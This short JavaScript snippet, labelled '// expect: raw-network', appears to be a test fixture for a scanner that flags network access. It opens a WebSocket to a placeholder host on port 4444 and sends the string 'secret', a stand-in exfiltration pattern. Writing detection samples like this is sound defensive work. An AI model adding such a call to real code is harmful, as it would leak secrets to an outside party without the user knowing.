// expect: raw-network
const socket = new WebSocket("ws://203.0.113.9:4444");
socket.onopen = () => socket.send("secret");
